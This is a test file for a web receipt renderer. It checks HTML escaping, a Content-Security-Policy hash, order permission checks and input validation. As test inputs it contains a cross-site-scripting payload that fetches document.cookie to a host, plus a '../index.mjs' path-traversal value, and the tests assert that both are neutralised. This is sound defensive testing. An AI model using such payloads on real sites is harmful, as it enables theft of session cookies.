import { createHash } from "node:crypto";
import { expect, test } from "vitest";
import { getReceipt } from "../../src/receipt/core.ts";
import type { OrderCheck } from "../../src/shared/defences/order-permission.ts";
import { Refusal } from "../../src/shared/refusal.ts";
import { fakeDatabase } from "../support/database.ts";
import { alice, bob, carol, ORDER_ID, requestOf } from "../support/events.ts";
import { refusalOfPromise } from "../support/refusals.ts";

const SCRIPT = '<script>fetch("http://127.0.0.1/"+document.cookie)</script>';
const ROW = { id: ORDER_ID, company_id: "acme", status: "placed", note: SCRIPT, discount_cents: 0, total_cents: 2405 };
const stored = (row: object = {}) =>
  fakeDatabase({
    "SELECT id,": [{ ...ROW, ...row }],
    "SELECT order_id": [
      { order_id: ORDER_ID, sku: "MUG-1", quantity: 2 },
      { order_id: ORDER_ID, sku: "OLD-1", quantity: 1 },
    ],
    "SELECT sku, name": [{ sku: "MUG-1", name: "Mug <b>" }],
  });
const receipt = (query: Record<string, string> | null = null, principal = alice) =>
  requestOf(principal, { pathParameters: { orderId: ORDER_ID }, queryStringParameters: query });

test("shows a receipt in which nothing but the layout is markup", async () => {
  const answer = await getReceipt(stored(), receipt({ reference: SCRIPT, layout: "compact" }));
  const encoded = "&lt;script&gt;fetch(&quot;http://127.0.0.1/&quot;+document.cookie)&lt;/script&gt;";
  expect(answer.html).not.toContain("<script");
  expect(answer.html).toContain(`<p>Your reference: ${encoded}</p>`);
  expect(answer.html).toContain(`<p>Note: ${encoded}</p>`);
  expect(answer.html).toContain('<tr><td>Mug &lt;b&gt;</td><td class="number">2</td></tr><tr><td>OLD-1</td>');
  expect(answer.html).toContain("<p>Total: 24.05</p>");
  expect(answer).toMatchObject({ status: 200, rows: 1 });
});

test("allows exactly the style sheet that the page holds", async () => {
  const { html, headers } = await getReceipt(stored(), receipt());
  const styles = /<style>([^<]*)<\/style>/.exec(html ?? "")?.[1] ?? "";
  const hash = createHash("sha256").update(styles).digest("base64");
  expect(headers?.["Content-Security-Policy"]).toContain(`default-src 'none'; style-src 'sha256-${hash}';`);
});

test("leaves out what an order does not have, and shows a discount", async () => {
  const { html } = await getReceipt(stored({ note: null, discount_cents: 100 }), receipt(null, carol));
  expect(html).not.toMatch(/Note:|Your reference:/);
  expect(html).toContain("<p>Discount: 1.00</p>");
  const plain = await getReceipt(stored({ note: null }), receipt(null, carol));
  expect(plain.html?.replace(/<style>[^<]*<\/style>/, "<style></style>")).toBe(`<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width">
<title>Receipt ${ORDER_ID}</title>
<style></style>
</head>
<body>
<h1>Receipt</h1>
<p>Order ${ORDER_ID}, placed</p>

<table>
<thead><tr><th>Product</th><th class="number">Quantity</th></tr></thead>
<tbody><tr><td>Mug &lt;b&gt;</td><td class="number">2</td></tr><tr><td>OLD-1</td><td class="number">1</td></tr></tbody>
</table>
<p>Total: 24.05</p>


</body>
</html>
`);
});

test("asks about the order before it shows anything of it, and before the company's own check", async () => {
  const asked: unknown[] = [];
  const request = receipt(null, bob);
  const refusing: OrderCheck = async (...question) => {
    asked.push(question);
    throw new Refusal({ layer: "permissions", defence: "order", status: 403, detail: "No." });
  };
  expect(await refusalOfPromise(getReceipt(stored(), request, refusing))).toMatchObject({ defence: "order" });
  expect(asked).toEqual([
    [request, "getReceipt", expect.objectContaining({ id: ORDER_ID, companyId: "acme", status: "placed" })],
  ]);
});

test("refuses another company, another layout, a long reference and an order that is not there", async () => {
  expect(await refusalOfPromise(getReceipt(stored(), receipt(null, bob)))).toMatchObject({ defence: "company-check" });
  const traversal = receipt({ layout: "../index.mjs" });
  expect(await refusalOfPromise(getReceipt(stored(), traversal))).toMatchObject({ defence: "receipt-layout" });
  expect(await refusalOfPromise(getReceipt(stored(), receipt({ reference: "r".repeat(201) })))).toEqual({
    defence: "",
    status: 400,
    detail: "reference must be at most 200 characters.",
  });
  const none = fakeDatabase({ "SELECT id,": [] });
  expect(await refusalOfPromise(getReceipt(none, receipt()))).toEqual({
    defence: "",
    status: 404,
    detail: "There is no such order.",
  });
  const long = await getReceipt(stored(), receipt({ reference: "r".repeat(200) }));
  expect(long.html).toContain(`<p>Your reference: ${"r".repeat(200)}</p>`);
});

test("reads the names of the order's products, each once, and of no others", async () => {
  const lines = ["MUG-1", "OLD-1", "MUG-1"].map((sku) => ({ order_id: ORDER_ID, sku, quantity: 1 }));
  const database = fakeDatabase({ "SELECT id,": [ROW], "SELECT order_id": lines, "SELECT sku, name": [] });
  await getReceipt(database, receipt());
  expect(database.sent.at(-1)).toEqual({
    sql: "SELECT sku, name FROM listed_products WHERE sku IN (?, ?)",
    values: ["MUG-1", "OLD-1"],
  });
  const empty = fakeDatabase({ "SELECT id,": [ROW], "SELECT order_id": [] });
  expect((await getReceipt(empty, receipt())).status).toBe(200);
});
